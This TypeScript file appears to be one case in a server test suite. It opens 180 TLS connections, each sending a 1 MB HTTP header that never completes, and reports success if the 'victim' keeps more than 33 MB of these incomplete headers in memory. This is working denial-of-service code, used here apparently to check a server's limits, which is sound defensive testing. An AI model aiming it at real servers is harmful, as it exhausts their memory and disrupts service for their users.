import type { Attack } from '../attack.ts';
import { delay, ended, within, written } from '../connections.ts';

const HEAD_BYTES = 1000 * 1024;
/** What the victim may hold of heads that are not complete: 32 MiB. */
const MOST_KEPT = 33;

export const strangersHeads: Attack = {
  name: 'strangers-heads',
  input: '180 connections, each with 1 MB of a head that does not end',
  async run({ victim, connections, count }) {
    const begin = Buffer.from(`GET /pods HTTP/1.1\r\nHost: x\r\nX-Odd: ${'a'.repeat(HEAD_BYTES)}`);
    let endings = 0;
    const sending = Array.from({ length: count(180) }, async () => {
      const client = await connections.connectTls(victim.port, { ALPNProtocols: ['http/1.1'] });
      void ended(client).then(() => endings++);
      await within(written(client, begin), 5000);
    });
    const total = (await Promise.all(sending)).length;
    // The end of a connection comes after what was written last.
    await delay(1000);
    const kept = total - endings;
    const success = kept > MOST_KEPT ? `the victim holds ${kept} MB of heads of strangers` : undefined;
    return { did: `${kept} connections were kept`, success };
  },
};
